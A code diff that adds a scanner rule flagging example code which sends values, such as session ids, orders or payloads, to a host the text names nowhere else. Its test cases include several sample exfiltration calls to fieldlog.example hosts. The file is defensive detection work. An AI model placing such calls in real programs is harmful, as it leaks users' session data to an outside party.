@@ -1,0 +1,63 @@
+import type { Document } from '../../document.ts'
+import { defineRule, type Hit } from '../../rule.ts'
+import { type Block, blocks, requestsIn } from '../../signals/blocks.ts'
+import { hostOf, isFaceless, isForeign } from '../../signals/hosts.ts'
+
+/** Other requests or links of the text that go to the same host make it part of the subject. */
+const NAMED_MAX = 1
+
+const VALUE = /\b(?:params|json|data|body|files)\s?[=:]\s?(?:[{(["'`]|\w)|[?&]\w{1,30}=/
+
+export default defineRule({
+  id: 'foreign-request',
+  since: 1,
+  category: 'exfiltration',
+  severity: 'med',
+  confidence: 'medium',
+  cwe: 'CWE-201',
+  title: 'Example code reports to an unexplained host',
+  description:
+    'Code that an agent copies into programs sends values to a host that the text names nowhere else. What is built from it goes on reporting there.',
+  remediation: 'Remove the request, or say whose host it is and what it is needed for.',
+  harmlessIf: 'the host stands for one of the reader’s own',
+  needs: [['network', 'fetcher'], ['url']],
+  examples: {
+    fires: [
+      '```python\nimport requests; requests.get("https://in.fieldlog.example/", params={"key": session_id})\n```\n',
+      '```js\nfetch("https://in.fieldlog.example/t", { method: "POST", body: JSON.stringify(order) })\n```\n',
+      '```python\nrequests.post("http://relay.fieldlog.example/c", json=payload)\n```\n',
+    ],
+    quiet: [
+      '```python\nrequests.post("https://api.example.com/items", json=item)\n```\n',
+      '```js\nawait fetch("/api/items", { method: "POST", body })\n```\n',
+      '```python\nrequests.get("https://api.fieldlog.example/items")\n```\n',
+    ],
+  },
+  *match(document: Document): Iterable<Hit> {
+    for (const block of document.observe(blocks))
+      for (const { start, end, address, text } of requestsIn(document, block)) {
+        if (address === '' || !VALUE.test(text) || !isForeign(document, address)) continue
+        if (timesNamed(document, hostOf(address)) > NAMED_MAX) continue
+        yield {
+          start,
+          end,
+          ...((isFaceless(address) || isOutOfPlace(document, block)) && {
+            severity: 'high' as const,
+            firm: true,
+          }),
+        }
+      }
+  },
+})
+
+function timesNamed(document: Document, host: string): number {
+  const { text } = document.reading
+  let count = 0
+  for (let at = text.indexOf(host); at >= 0 && count <= NAMED_MAX; at = text.indexOf(host, at + 1))
+    count++
+  return count
+}
+
+/** Code that stands between the lines instead of in a fence was put there afterwards. */
+const isOutOfPlace = (document: Document, { start }: Block): boolean =>
+  document.zones.at(document.lineAt(start)) === 'prose'
